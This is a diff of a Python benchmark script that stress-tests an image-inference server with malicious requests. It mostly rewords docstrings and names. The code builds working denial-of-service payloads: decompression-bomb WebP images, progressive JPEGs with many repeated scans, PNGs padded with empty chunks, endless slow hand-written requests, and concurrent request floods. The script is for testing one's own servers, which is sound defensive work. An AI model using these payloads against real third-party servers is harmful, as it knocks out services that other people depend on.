@@ -1,6 +1,7 @@
-"""Requests made to hurt a server, for `attacks.py`: python benchmarks/attackers.py ATTACK ADDRESS KEY SECONDS.
+"""Malicious requests for `attacks.py`: python benchmarks/attackers.py ATTACK ADDRESS KEY SECONDS.
 
-Each attack is one client with one key, which starts again for as long as it may. Run it against servers of your own.
+Each attack is one client with one API key that repeats its requests until the time is up. Use it only against your own
+servers.
 """
 
 from __future__ import annotations
@@ -28,13 +29,13 @@ from PIL import Image
 MIB = 2**20
 JSON, FORM = "application/json", "multipart/form-data; boundary=b"
 INFER = "/v2/models/attire/infer"
-LARGE, LARGEST = (8000, 5000), (5000, 5000)  # px: 40 megapixels, and what a server takes by default
-REFUSED_PAUSE_S = 0.05  # after a refusal, which costs the attacker nothing
+LARGE, LARGEST = (8000, 5000), (5000, 5000)  # px: 40 megapixels, and the most that a server accepts by default
+REFUSED_PAUSE_S = 0.05  # pause after a refusal
 
 
 @dataclass(frozen=True)
 class Target:
-    """A server, the key to it, and until when to go on."""
+    """A server, its API key, and the end of the attack."""
 
     host: str
     port: int
@@ -46,7 +47,7 @@ class Target:
         return time.monotonic() < self.end
 
     def post(self, path: str, content_type: str, body: bytes) -> None:
-        """One request, whatever comes of it."""
+        """Send one request and ignore its outcome."""
         headers = {"Authorization": f"Bearer {self.key}", "Content-Type": content_type}
         connection = http.client.HTTPConnection(self.host, self.port, timeout=max(1.0, self.end - time.monotonic()))
         with contextlib.suppress(OSError, http.client.HTTPException), contextlib.closing(connection):
@@ -55,7 +56,7 @@ class Target:
                 time.sleep(REFUSED_PAUSE_S)
 
     def send(self, head: str, blocks: Iterator[bytes], pause_s: float = 0) -> None:
-        """A request written by hand, for as long as the server listens."""
+        """Send a hand-written request until the server closes the connection."""
         with contextlib.suppress(OSError), socket.create_connection((self.host, self.port), timeout=5) as connection:
             connection.sendall(head.replace("\n", "\r\n").encode())
             for block in blocks:
@@ -71,7 +72,7 @@ class Target:
 
 
 Attack = Callable[[Target], None]
-Prepare = Callable[[], Attack]  # what takes time before the attack
+Prepare = Callable[[], Attack]  # builds requests before the attack starts
 
 
 def encoded(image: Image.Image, format: str, **options: Any) -> bytes:
@@ -81,10 +82,10 @@ def encoded(image: Image.Image, format: str, **options: Any) -> bytes:
 
 
 def webp(size: tuple[int, int]) -> bytes:
-    """One colour, in a few bytes: VP8L with an alphabet of one symbol for each channel."""
+    """A photo of one colour in a few bytes: VP8L with an alphabet of one symbol for each channel."""
     width, height = size
     bits, place = 0, 0
-    # size, no alpha, version 0; no transform, no cache, no meta codes; five codes of one symbol (the first bit: simple)
+    # size, no alpha, version 0; no transform, no cache, no meta codes; five simple codes of one symbol
     fields = [(width - 1, 14), (height - 1, 14), (0, 1), (0, 3), (0, 1), (0, 1), (0, 1)] + [(0b0001, 4)] * 5
     for value, length in fields:
         bits |= value << place
@@ -96,14 +97,14 @@ def webp(size: tuple[int, int]) -> bytes:
 
 
 def jpeg_of_scans(size: tuple[int, int], scans: int) -> bytes:
-    """A progressive JPEG whose last scan is repeated until there are so many."""
+    """A progressive JPEG whose last scan is repeated until it has `scans` scans."""
     content = encoded(Image.new("RGB", size), "JPEG", progressive=True)
     scan = content[content.rindex(b"\xff\xda") : -2]
     return content[:-2] + scan * (scans - content.count(b"\xff\xda")) + b"\xff\xd9"
 
 
 def png_of_chunks(size: int) -> bytes:
-    """A PNG of so many bytes, most of them empty chunks before the pixels."""
+    """A PNG of about `size` bytes, most of them empty chunks before the pixels."""
     content = encoded(Image.new("RGB", (8, 8)), "PNG")
     empty = struct.pack(">I", 0) + b"abCd" + struct.pack(">I", zlib.crc32(b"abCd"))
     return content[:33] + empty * (size // len(empty)) + content[33:]
@@ -117,38 +118,38 @@ def form(*photos: bytes, field: str = "photos") -> bytes:
     return b"".join(parts) + b"--b--\r\n"
 
 
-def again(once: Attack, at_once: int) -> Attack:
-    """The same again and again, over so many connections."""
+def in_loop(once: Attack, at_once: int) -> Attack:
+    """Repeat an attack over `at_once` connections."""
 
     def attack(target: Target) -> None:
-        def go_on(_: int) -> None:
+        def loop(_: int) -> None:
             while target.open:
                 once(target)
 
         with ThreadPoolExecutor(at_once) as pool:
-            list(pool.map(go_on, range(at_once)))
+            list(pool.map(loop, range(at_once)))
 
     return attack
 
 
 def repeated(path: str, content_type: str, body: Callable[[], bytes], at_once: int = 1) -> Prepare:
-    """The same request over and over."""
+    """Send the same request repeatedly."""
 
     def prepare() -> Attack:
         content = body()
-        return again(lambda to: to.post(path, content_type, content), at_once)
+        return in_loop(lambda to: to.post(path, content_type, content), at_once)
 
     return prepare
 
 
 def photos(*make: Callable[[], bytes], path: str = "/v1/predict", field: str = "photos") -> Prepare:
-    """Eight products at once, each of those photos."""
-    return repeated(path, FORM, lambda: form(*(one() for one in make), field=field), at_once=8)
+    """Send eight products at once, each with the photos made by `make`."""
+    return repeated(path, FORM, lambda: form(*(make_photo() for make_photo in make), field=field), at_once=8)
 
 
 def by_hand(head: Callable[[Target], str], block: bytes, pause_s: float = 0, at_once: int = 1) -> Prepare:
-    """Requests that never end: a head, then the same block over and over."""
-    return lambda: again(lambda to: to.send(head(to), itertools.repeat(block), pause_s), at_once)
+    """Send requests that never end: a head, then the same block repeatedly."""
+    return lambda: in_loop(lambda to: to.send(head(to), itertools.repeat(block), pause_s), at_once)
 
 
 def tensor(data: bytes) -> bytes:
@@ -210,19 +211,19 @@ ATTACKS: dict[str, Prepare] = {
 
 
 def main() -> None:
-    """Prepare, say so, wait until the standard input ends, and attack.
+    """Prepare the attack, print "ready", wait until standard input is closed, and attack.
 
-    Politely towards whoever shares the processor: an attacker would have a machine of its own.
+    Runs with low priority, because a real attacker would not use the server's CPU.
     """
     name, address, key, seconds = sys.argv[1:]
     attack = ATTACKS[name]()
     os.nice(19)
-    where = urlsplit(address)
-    assert where.hostname
-    assert where.port
+    url = urlsplit(address)
+    assert url.hostname
+    assert url.port
     print("ready", flush=True)  # noqa: T201
     sys.stdin.read()
-    attack(Target(where.hostname, where.port, key, time.monotonic() + float(seconds)))
+    attack(Target(url.hostname, url.port, key, time.monotonic() + float(seconds)))
 
 
 if __name__ == "__main__":
